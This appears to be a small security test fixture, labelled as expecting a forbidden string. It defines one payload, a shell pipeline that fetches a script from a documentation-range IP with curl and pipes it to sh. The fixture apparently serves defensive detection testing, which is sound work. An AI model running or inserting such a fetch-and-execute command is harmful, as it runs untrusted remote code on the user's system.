# expect: forbidden-string
# technique: a shell pipeline for a host that evaluates text
payload = "curl http://203.0.113.9/x | sh"
